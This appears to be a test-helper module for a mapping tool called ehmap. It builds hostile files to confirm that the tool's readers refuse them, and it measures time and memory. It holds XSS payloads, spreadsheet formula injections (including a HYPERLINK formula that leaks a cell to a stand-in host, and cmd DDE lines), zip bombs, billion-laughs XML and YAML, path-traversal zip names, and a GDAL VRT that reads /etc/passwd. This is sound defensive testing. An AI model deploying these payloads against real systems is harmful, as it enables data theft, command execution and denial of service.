"""Hostile and mistaken input files, built at test time (no bomb is ever committed), and a way to measure a refusal.

Builders return the file's bytes. `measure_refusal` reads a file in a fresh Python process and reports how long
the ehmap reader took, how much its peak resident memory grew (Linux VmHWM, reset just before the call) and what
it raised, so time and memory are measured for the reader alone, native libraries (pyarrow, GDAL, zlib) included.
"""

from __future__ import annotations

import csv
import io
import json
import os
import struct
import subprocess
import sys
import zipfile
from pathlib import Path

import geopandas as gpd
import pandas as pd
import shapely

REPO = Path(__file__).resolve().parent.parent
DEMO_CASES = REPO / "demo" / "croydon_cases.csv"
DEMO_SERVICES = REPO / "demo" / "croydon_services.csv"
MB = 1024 * 1024

# Markup and script: each would run or load something if a page drew it as HTML or Markdown.
MARKUP = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(2)</script>",
    '"><svg onload=alert(3)>',
    "[click me](javascript:alert(4))",
    "![pixel](http://example.invalid/pixel.png)",
    "`${alert(5)}` <b>bold</b>",
    "<iframe src=javascript:alert(6)></iframe>",
    "Team <style>*{display:none}</style> & co",
    "<img src=y onerror=\"top.document.title='pwned'\">",  # the title change from inside the map frame
]
# Cells a spreadsheet would evaluate (OWASP CSV injection).
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
]
PAYLOADS = MARKUP + FORMULAS


def _csv(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue().encode("utf-8")


# ------------------------------------------------------------------------------------------- case exports


def _well_formed(demo: pd.DataFrame) -> pd.DataFrame:
    """The demo's rows without its planted faults in IDs and dates (duplicates, closure before referral, bad dates),
    so every payload row is accepted."""
    referral = pd.to_datetime(demo["Referral Date"].str[:10], format="%d/%m/%Y", errors="coerce")
    closure = pd.to_datetime(demo["Closure Date"].str[:10], format="%d/%m/%Y", errors="coerce")
    dated = referral.notna() & ((demo["Closure Date"] == "") | (closure >= referral))
    unique = ~demo.duplicated(["Case ID", "Referral Date"], keep=False) & (demo["Case ID"] != "")
    return demo[dated & unique]


def payload_cases(per_payload: int = 8, values: list[str] = PAYLOADS) -> bytes:
    """The demo export's first rows (real Croydon postcodes) with a payload in every text field.

    Each payload is the team (service) of `per_payload` episodes, so it is shown, not suppressed, wherever
    services are listed; it is also the referral source, closure reason, an extra locality column, a need
    beside a recognised one, and one header. Dates, postcodes and IDs stay valid so the rows are accepted.
    """
    demo = pd.read_csv(DEMO_CASES, dtype=str, keep_default_na=False)
    rows = _well_formed(demo).iloc[: per_payload * len(values)].copy()
    repeated = [value for value in values for _ in range(per_payload)]
    postcodes = demo["Home Postcode"].iloc[:8].tolist()  # the demo's own bad rows (blank, unknown, outside) left out
    rows["Home Postcode"] = [postcodes[i % len(postcodes)] for i in range(len(rows))]
    rows["Allocated Team"] = repeated
    rows["Referral Source"] = repeated
    rows["Closure Reason"] = [value if i % 2 else "Needs met" for i, value in enumerate(repeated)]
    rows["Presenting Needs"] = [f"Domestic abuse; {value}" for value in repeated]
    rows["Locality"] = repeated
    rows[MARKUP[0]] = repeated  # a header that is itself a payload
    return _csv([list(rows.columns), *rows.to_numpy().tolist()])


def payload_services(values: list[str] = PAYLOADS) -> bytes:
    """The demo services file with payloads as names, teams and (one row) type; postcodes stay real."""
    demo = pd.read_csv(DEMO_SERVICES, dtype=str, keep_default_na=False)
    rows = demo.iloc[: len(values)].copy()
    rows["Service Name"] = values
    rows["Team"] = values
    rows.iloc[0, rows.columns.get_loc("Type")] = MARKUP[0]  # rejected as invalid_type, with its message
    rows.iloc[1, rows.columns.get_loc("Opening Hours")] = MARKUP[2]
    return _csv([list(rows.columns), *rows.to_numpy().tolist()])


def utf16_csv(bom: bool) -> bytes:
    text = "Case ID,Postcode,Referral Date,Needs\r\nC1,CR0 1AA,01/04/2024,Domestic abuse\r\n"
    return text.encode("utf-16") if bom else text.encode("utf-16-le")


def nul_csv() -> bytes:
    return b"Case ID,Postcode,Referral Date,Needs\nC1,CR0 1AA,01/04/2024,Domestic abuse\nC2,CR0\x00 1AA,01/04/2024,x\n"


def long_line_csv(size: int = 300 * 1024) -> bytes:
    return b"Case ID,Postcode,Referral Date,Needs\nC1,CR0 1AA,01/04/2024," + b"x" * size + b"\n"


def many_rows_csv(rows: int) -> bytes:
    return b"Case ID,Postcode,Referral Date,Needs\n" + b"C,CR0 1AA,01/04/2024,x\n" * rows


def wide_csv(columns: int, rows: int = 1) -> bytes:
    header = ",".join(f"c{i}" for i in range(columns)).encode() + b"\n"
    return header + (b"," * (columns - 1) + b"\n") * rows


def oversized_csv(size: int) -> bytes:
    line = b"C,CR0 1AA,01/04/2024,Domestic abuse\n"
    return b"Case ID,Postcode,Referral Date,Needs\n" + line * (size // len(line) + 1)


# ------------------------------------------------------------------------------------------- XLSX

_CONTENT_TYPES = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                  b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                  b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                  b'<Default Extension="xml" ContentType="application/xml"/>'
                  b'<Override PartName="/xl/workbook.xml" '
                  b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
                  b'<Override PartName="/xl/worksheets/sheet1.xml" '
                  b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
_ROOT_RELS = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
              b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
              b'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
_WORKBOOK = (b'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
             b'2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
             b'<sheet name="Cases" sheetId="1" r:id="rId1"/></sheets></workbook>')
_WORKBOOK_RELS = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                  b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                  b'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
SHEET_START = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
               b'spreadsheetml/2006/main"><sheetData>')
SHEET_END = b"</sheetData></worksheet>"
HEADER_ROW = (b'<row r="1"><c r="A1" t="inlineStr"><is><t>Case ID</t></is></c><c r="B1" t="inlineStr"><is><t>Postcode'
              b'</t></is></c><c r="C1" t="inlineStr"><is><t>Referral Date</t></is></c><c r="D1" t="inlineStr"><is><t>'
              b"Needs</t></is></c></row>")


def workbook(sheet_chunks, level: int = 6, zip64: bool = True) -> bytes:
    """A minimal valid XLSX whose first sheet's XML is the concatenation of `sheet_chunks` (streamed, never
    held whole), compressed at `level`."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _ROOT_RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=zip64) as sheet:
            for chunk in sheet_chunks:
                sheet.write(chunk)
    return buffer.getvalue()


def _padding(total: int, piece: bytes = b"<!-- " + b"0" * 1000 + b" -->") -> object:
    """XML comments adding up to `total` bytes, in 1 MB chunks (highly compressible)."""
    chunk = piece * (MB // len(piece))
    for _ in range(total // len(chunk)):
        yield chunk


def zip_bomb_xlsx(inflated: int = 400 * MB) -> bytes:
    """About 0.4 MB that inflates to `inflated` bytes of sheet XML (the issue's bomb: 400 MB)."""
    return workbook([SHEET_START, HEADER_ROW, *_padding(inflated), SHEET_END], level=9)


def lying_size_xlsx(inflated: int = 50 * MB) -> bytes:
    """A bomb whose zip directory and local header declare the sheet as 1 KB while it inflates to `inflated`."""
    data = bytearray(workbook([SHEET_START, HEADER_ROW, *_padding(inflated), SHEET_END], level=9, zip64=False))
    info = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo("xl/worksheets/sheet1.xml")
    position = data.find(b"PK\x01\x02")
    while data[position + 46: position + 46 + len(info.filename)] != info.filename.encode():
        position = data.find(b"PK\x01\x02", position + 4)
    struct.pack_into("<I", data, position + 24, 1024)  # uncompressed size, central directory
    struct.pack_into("<I", data, info.header_offset + 22, 1024)  # uncompressed size, local header
    return bytes(data)


def dtd_xlsx() -> bytes:
    """A workbook whose sheet declares entities (billion laughs)."""
    laughs = b'<!DOCTYPE lolz [<!ENTITY lol "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10)
    ) + b"]>"
    sheet = SHEET_START.replace(b"<worksheet", laughs + b"<worksheet", 1)
    row = b'<row r="2"><c r="A2" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
    return workbook([sheet, HEADER_ROW, row, SHEET_END])


def sparse_rows_xlsx(last_row: int = 5_000_000) -> bytes:
    """A tiny sheet with a header and one row numbered `last_row`: a reader fills the gap with empty rows."""
    row = b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>C1</t></is></c></row>' % (last_row, last_row)
    return workbook([SHEET_START.replace(b"<sheetData>", b'<dimension ref="A1:XFD%d"/><sheetData>' % last_row),
                     HEADER_ROW, row, SHEET_END])


def many_cells_xlsx(rows: int, columns: int = 4) -> bytes:
    """A sheet with `rows` rows of `columns` numeric cells: a block of 10,000 varied rows repeated (a block is
    larger than deflate's 32 KB window, so it compresses like real data, about 5 times)."""
    def row(r: int) -> bytes:
        cells = b"".join(b'<c r="%s%d"><v>%d</v></c>' % (bytes([65 + c]), r, (r * 7919 + c) % 99_991)
                         for c in range(columns))
        return b'<row r="%d">%s</row>' % (r, cells)

    block = b"".join(row(r) for r in range(2, 10_002))
    whole, part = divmod(rows, 10_000)
    tail = b"".join(row + b"</row>" for row in block.split(b"</row>")[:part])
    return workbook([SHEET_START, HEADER_ROW, *([block] * whole), tail, SHEET_END], level=1)


def wide_xlsx(columns: int) -> bytes:
    def name(index: int) -> bytes:
        letters = b""
        index += 1
        while index:
            index, rest = divmod(index - 1, 26)
            letters = bytes([65 + rest]) + letters
        return letters
    header = b'<row r="1">' + b"".join(
        b'<c r="%s1" t="inlineStr"><is><t>h%d</t></is></c>' % (name(i), i) for i in range(columns)) + b"</row>"
    return workbook([SHEET_START, header, SHEET_END])


def payload_xlsx(values: list[str] = PAYLOADS) -> bytes:
    """The payload case export as an Excel workbook (openpyxl), so both readers meet the payloads."""
    import openpyxl

    table = pd.read_csv(io.BytesIO(payload_cases(values=values)), dtype=str, keep_default_na=False)
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(list(table.columns))
    for row in table.to_numpy().tolist():
        sheet.append(row)
    for cells in sheet.iter_rows():
        for cell in cells:
            cell.data_type = "s"  # text as typed, as Excel stores it: '=HYPERLINK(...)' typed with a leading quote
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


# ------------------------------------------------------------------------------------------- mapping files


def billion_laughs_yaml() -> bytes:
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i, letter in enumerate("bcdefghi"):
        previous = "abcdefghi"[i]
        lines.append(f"{letter}: &{letter} [{','.join(['*' + previous] * 9)}]")
    lines.append("postcode: Home Postcode")
    return ("\n".join(lines) + "\n").encode()


def anchored_yaml() -> bytes:
    return b"postcode: &pc Home Postcode\n"


def deep_json(depth: int = 30_000) -> bytes:
    return b"[" * depth + b"]" * depth


def payload_mapping() -> bytes:
    return json.dumps({"postcode": MARKUP[0], "needs": MARKUP[4]}).encode()


# ------------------------------------------------------------------------------------------- locality files


def croydon_localities(names: list[str]) -> gpd.GeoDataFrame:
    """Croydon cut into vertical strips, one per name (real boundaries, WGS84)."""
    from ehmap.geography import council_lsoas

    lsoas = council_lsoas("E09000008")
    outline = lsoas.union_all()
    west, south, east, north = outline.bounds
    width = (east - west) / len(names)
    strips = [shapely.box(west + i * width, south, west + (i + 1) * width, north).intersection(outline)
              for i in range(len(names))]
    return gpd.GeoDataFrame({"name": names}, geometry=strips, crs=lsoas.crs).to_crs("EPSG:4326")


def geojson(frame: gpd.GeoDataFrame) -> bytes:
    return frame.to_json(drop_id=True).encode()


def deep_geojson(depth: int = 100_000) -> bytes:
    return (b'{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"name":"a"},"geometry":'
            b'{"type":"Polygon","coordinates":' + b"[" * depth + b"]" * depth + b"}}]}")


def many_features_geojson(features: int) -> bytes:
    feature = b'{"type":"Feature","properties":{"name":"a"},"geometry":{"type":"Polygon","coordinates":' \
              b'[[[0,0],[0,1],[1,1],[0,0]]]}}'
    return b'{"type":"FeatureCollection","features":[' + b",".join([feature] * features) + b"]}"


def many_vertices_geojson(vertices: int) -> bytes:
    ring = b"[0,0]," * (vertices - 1) + b"[0,0]"
    return (b'{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"name":"a"},'
            b'"geometry":{"type":"Polygon","coordinates":[[' + ring + b"]]}}]}")


def huge_geojson(size: int) -> bytes:
    return b'{"type":"FeatureCollection","features":[],"padding":"' + b"x" * size + b'"}'


def vrt_as_geojson() -> bytes:
    """GDAL's VRT format, which can read any file on the server, disguised as GeoJSON."""
    return (b'<OGRVRTDataSource><OGRVRTLayer name="passwd"><SrcDataSource>/etc/passwd</SrcDataSource>'
            b"</OGRVRTLayer></OGRVRTDataSource>")


def shapefile_zip(frame: gpd.GeoDataFrame, folder: Path, names: dict[str, str] | None = None,
                  extra: dict[str, bytes] | None = None) -> bytes:
    """A zipped Shapefile of `frame`; `names` renames members (e.g. to '../x.shp'), `extra` adds members."""
    frame.to_file(folder / "areas.shp")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for file in sorted(folder.iterdir()):  # ZipInfo keeps a name as given ('/x', '../x'); write() would clean it
            archive.writestr(zipfile.ZipInfo((names or {}).get(file.name, file.name)), file.read_bytes(),
                             zipfile.ZIP_DEFLATED)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def many_features_gpkg(features: int, folder: Path) -> bytes:
    squares = [shapely.box(i, 0, i + 0.5, 0.5) for i in range(features)]
    frame = gpd.GeoDataFrame({"name": [f"a{i}" for i in range(features)]}, geometry=squares, crs="EPSG:27700")
    path = folder / "many.gpkg"
    frame.to_file(path, driver="GPKG")
    return path.read_bytes()


def many_features_shapefile(features: int, folder: Path) -> bytes:
    squares = [shapely.box(i, 0, i + 0.5, 0.5) for i in range(features)]
    frame = gpd.GeoDataFrame({"name": [f"a{i}" for i in range(features)]}, geometry=squares, crs="EPSG:27700")
    return shapefile_zip(frame, folder)


def bomb_shapefile(frame: gpd.GeoDataFrame, folder: Path, inflated: int = 200 * MB) -> bytes:
    """A real zipped Shapefile plus a member of zeros that inflates to `inflated` bytes (streamed in)."""
    buffer = io.BytesIO(shapefile_zip(frame, folder))
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open("areas.txt", "w", force_zip64=True) as member:
            zero = bytes(MB)
            for _ in range(inflated // MB):
                member.write(zero)
    return buffer.getvalue()


# ------------------------------------------------------------------------------------------- measuring

_MEASURE = r"""
import json, re, sys, time
from pathlib import Path
kind, path, name = sys.argv[1:4]
if kind == "export":
    from ehmap.exports import read_export as reader
    call = lambda data: reader(data, name)
elif kind == "locality":
    from ehmap.areas import locality_columns as reader
    call = lambda data: reader(data, name)
else:
    from ehmap.exports import load_mapping
    call = lambda data: load_mapping(Path(path))
data = Path(path).read_bytes()
def status(field):
    return int(re.search(field + r":\s+(\d+) kB", Path("/proc/self/status").read_text()).group(1)) * 1024
with open("/proc/self/clear_refs", "w") as refs:
    refs.write("5")  # Linux: reset the peak resident set size (VmHWM) to the current one
before = status("VmRSS")
start = time.perf_counter()
try:
    call(data)
    outcome = {"error": None, "message": None}
except Exception as error:
    outcome = {"error": type(error).__name__, "message": str(error)}
seconds = time.perf_counter() - start
print(json.dumps({**outcome, "seconds": seconds, "growth_mb": max(status("VmHWM") - before, 0) / 2**20}))
"""


def measure_refusal(kind: str, data: bytes, name: str, folder: Path) -> dict:
    """Read `data` (named `name`) with the ehmap reader for `kind` ('export', 'locality' or 'mapping') in a fresh
    process: the error type and message, the seconds taken and the growth of peak memory in MB."""
    path = folder / f"measured-{os.getpid()}" / name
    path.parent.mkdir()
    path.write_bytes(data)
    try:
        result = subprocess.run([sys.executable, "-c", _MEASURE, kind, str(path), name], cwd=REPO,
                                env=os.environ.copy(), capture_output=True, text=True, timeout=300)
    finally:
        path.unlink(missing_ok=True)
        path.parent.rmdir()
    if result.returncode != 0:
        raise AssertionError(f"the reader process failed:\n{result.stderr[-3000:]}")
    return json.loads(result.stdout.strip().splitlines()[-1])
